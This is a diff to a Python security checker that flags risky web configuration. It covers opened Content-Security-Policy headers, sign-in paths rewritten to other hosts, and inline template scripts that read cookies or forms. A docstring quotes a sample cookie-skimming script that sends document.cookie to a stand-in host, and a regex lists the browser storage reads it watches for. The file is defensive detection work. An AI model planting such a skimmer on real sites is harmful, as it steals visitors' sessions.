@@ -19,6 +19,10 @@ What is judged, by the kind of file:
   a folder the web server publishes;
 - `netlify.toml`'s build command a later build runs: judged as that command where the text is not whole TOML (a
   piece a script splices in; whole TOML is read by taskfiles' hosting reader).
+- (session 26) in any of them and in `_headers`: a Content-Security-Policy that lets any host's script run inline or
+  eval'd (docsites_tables.csp_opened); in the redirect files: a sign-in path (`/login`, `/account/*`) served from
+  another site under the site's address (a `200` rewrite) or sent to a host imitating the organisation's; in a
+  template written from the shell: its inline scripts, judged as TypeScript (a cookie or form skimmer).
 """
 from __future__ import annotations
 
@@ -27,7 +31,7 @@ import re
 # the paths this module reads, as a regex source searched in a command's text (a fast-path screen: keep it specific)
 # (a folder's scan stops at the next of these folders, and a name's at the next `nginx`, whose own try finds the same
 # page: a run of them is read once)
-CONFIG_TARGET = (r"\.(?:php[3-8]?|phtml|phar|twig|hbs|liquid|astro|njk)\b|\.htaccess\b|(?:^|/)_redirects\b|"
+CONFIG_TARGET = (r"\.(?:php[3-8]?|phtml|phar|twig|hbs|liquid|astro|njk)\b|\.htaccess\b|(?:^|/)_(?:redirects|headers)\b|"
                  r"netlify\.toml|vercel\.json|/etc/(?:nginx|apache2|httpd)/|nginx(?:(?!nginx)[\w.-])*\.conf\b|"
                  r"(?:_?layouts|_includes|_?partials|themes)/(?:(?!(?:_?layouts|_includes|_?partials|themes)/)"
                  r"[^\s'\"<>|;&])*\.html?\b|(?:app|pages)/(?:layout|_document|_app)\.[jt]sx\b")
@@ -45,6 +49,8 @@ _NGINX = re.compile(r"^/etc/nginx/(?:(?:conf\.d|sites-available|sites-enabled|sn
                     r"nginx\.conf)$|(?:^|/)nginx[\w.-]*\.conf$|(?:^|/)nginx/(?:(?!nginx/)[^/]++/)*[^/]+\.conf$")
 _NETLIFY_REDIRECTS = re.compile(r"(?:^|/)_redirects$")
 _NETLIFY_TOML = re.compile(r"(?:^|/)netlify\.toml$")
+# Netlify's and Cloudflare Pages' response headers (session 26: read for a Content-Security-Policy opened)
+_HEADERS_FILE = re.compile(r"(?:^|/)_headers$")
 _VERCEL = re.compile(r"(?:^|/)vercel\.json$")
 # what visitors and editors upload, served at its URL: PHP there runs as the site for anyone who asks for it
 _UPLOADS = re.compile(r"(?:^|/)(?:wp-content/uploads|sites/[^/]+/files|uploads|media/uploads)/", re.I)
@@ -62,6 +68,8 @@ def _kind(path: str) -> str | None:
         return "nginx"
     if _NETLIFY_REDIRECTS.search(p):
         return "redirects"
+    if _HEADERS_FILE.search(p):
+        return "headers"
     if _NETLIFY_TOML.search(p):
         return "netlify"
     if _VERCEL.search(p):
@@ -81,6 +89,12 @@ def judge_config(a, path: str, text: str, node) -> bool:
     was reported. `a` has only `block(rule, message, node)` and `review(rule, message, node)` when the writer is code."""
     kind = _kind(path)
     if kind is None or not text.strip():
+        return False
+    if _policy_opened(a, path, text, node):  # (session 26: any of these files can send the header or the meta tag)
+        return True
+    if kind in ("php", "template"):
+        _page_scripts(a, text, node)
+    if kind == "headers":
         return False
     if kind == "php":
         return _php(a, path, text, node) or _markup(a, path, text, node)
@@ -286,6 +300,36 @@ def injected_markup(text: str) -> str | None:
     return found[1] if found is not None else None
 
 
+def _policy_opened(a, path: str, text: str, node) -> bool:
+    """A Content-Security-Policy written to `path` that lets any host's script run inline or eval'd
+    (docsites_tables.csp_opened)."""
+    from .docsites_tables import csp_opened
+
+    why = csp_opened(text)
+    if why is None:
+        return False
+    a.block("exfiltration", f"the policy written to {path} allows {why}: the protection that keeps an injected "
+                            "script from reading visitors' sessions and sending them away is gone; name the hosts "
+                            "the site loads script from, and keep inline script behind a nonce or hash", node)
+    return True
+
+
+def _page_scripts(a, text: str, node) -> None:
+    """Inline scripts written into a template (`<script>fetch("https://x/?c="+document.cookie)</script>`): judged as
+    the TypeScript they are (js/webapp.py reads what a page's script takes from visitors and where it sends it). Only
+    from the shell: code's own strings are read by its own rules."""
+    ctx, doc = getattr(a, "ctx", None), getattr(a, "doc", None)
+    if ctx is None or doc is None or "<script" not in text.lower() or "//" not in text:
+        return
+    from .common_code import page_scripts
+
+    for s in page_scripts(text, _INLINE_READS)[:8]:
+        ctx.nested(s, "typescript", doc, node, None)
+
+
+_INLINE_READS = re.compile(r"document\.cookie|localStorage|sessionStorage|addEventListener|FormData")
+
+
 def _markup(a, path: str, text: str, node) -> bool:
     found = _scan_markup(text)
     if found is None:
@@ -481,11 +525,14 @@ def _php(a, path: str, text: str, node) -> bool:
 
 # -- redirects ----------------------------------------------------------------------------------------------------------
 class _Redirect:
-    __slots__ = ("target", "everything", "temporary", "cloaked", "own")
+    __slots__ = ("target", "everything", "temporary", "cloaked", "own", "source", "proxied")
 
-    def __init__(self, target: str, everything: bool, temporary: bool, cloaked: str | None, own=frozenset()):
+    def __init__(self, target: str, everything: bool, temporary: bool, cloaked: str | None, own=frozenset(),
+                 source: str = "", proxied: bool = False):
         self.target, self.everything, self.temporary, self.cloaked, self.own = \
             target, everything, temporary, cloaked, frozenset(own)
+        # (session 26) the path it applies to, and whether the target is served under the site's address (a rewrite)
+        self.source, self.proxied = source, proxied
 
 
 _SEARCH_ENGINES = re.compile(r"(?i)google|bing|yahoo|duckduckgo|yandex|baidu|ecosia|\bask\b|aol|naver")
@@ -609,7 +656,8 @@ def _netlify_redirects(text: str) -> list[_Redirect]:
         if source.startswith("#") or not re.match(r"(?i)(?:https?:)?//", target):
             continue
         path = re.sub(r"(?i)^(?:https?:)?//[^/]+", "", source) or "/"
-        out.append(_Redirect(target, path in ("/*", "/", "/:splat"), status in ("302", "303", "307"), None))
+        out.append(_Redirect(target, path in ("/*", "/", "/:splat"), status in ("302", "303", "307"), None,
+                             source=path, proxied=status == "200"))
     return out
 
 
@@ -628,7 +676,8 @@ def _toml_redirects(text: str) -> list[_Redirect]:
         for r in rules[:256]:
             if isinstance(r, dict) and isinstance(r.get("to"), str) and isinstance(r.get("from"), str):
                 temporary = str(r.get("status", 301)) in ("302", "303", "307")
-                out.append(_Redirect(r["to"], r["from"] in ("/*", "/"), temporary, None))
+                out.append(_Redirect(r["to"], r["from"] in ("/*", "/"), temporary, None, source=r["from"],
+                                     proxied=str(r.get("status", 301)) == "200"))
     return out
 
 
@@ -658,17 +707,30 @@ def _vercel_redirects(text: str) -> list[_Redirect]:
             temporary = key == "redirects" and (r.get("permanent") is False or
                                                 r.get("statusCode") in (302, 303, 307))
             out.append(_Redirect(r["destination"], str(r.get("source")) in ("/(.*)", "/:path*", "/"), temporary,
-                                 _cloaking(ref, ua_neg)))
+                                 _cloaking(ref, ua_neg), source=str(r.get("source", "")), proxied=key == "rewrites"))
     return out
 
 
 def _send_away(a, path: str, redirects: list[_Redirect], node) -> bool:
     """Block a redirect to another site that is cloaked (search visitors only, people only) or that sends every page
     elsewhere for a while (a site that moves says so with a permanent redirect)."""
+    from .docsites_tables import LOGIN_PATH, login_sent, signin_word
+
     for r in redirects:
         host = _host_of(r.target)
         if host is None or _own(host, r.own):
             continue
+        why = login_sent(r.source, host, r.proxied, " ".join(x.target for x in redirects)) if r.source else None
+        if why is not None:
+            a.block("exfiltration", f"the rules written to {path} {why}; keep sign-in on the site's own pages or its "
+                                    "identity provider", node)
+            return True
+        if r.proxied and r.source and LOGIN_PATH.search(r.source) and signin_word(host):
+            # (an identity provider's host or a stranger's sign-in page: which one, a person knows)
+            a.review("exfiltration", f"the rules written to {path} serve {r.source} from {host} under the site's own "
+                                     "address: what people type to sign in goes there; a person should confirm it is "
+                                     "the organisation's identity provider", node)
+            return True
         if r.cloaked is not None:
             a.block("exfiltration", f"the rules written to {path} send {r.cloaked} to {host}, another site, while "
                                     "the site looks unchanged to its owner and to search engines (cloaking): keep "
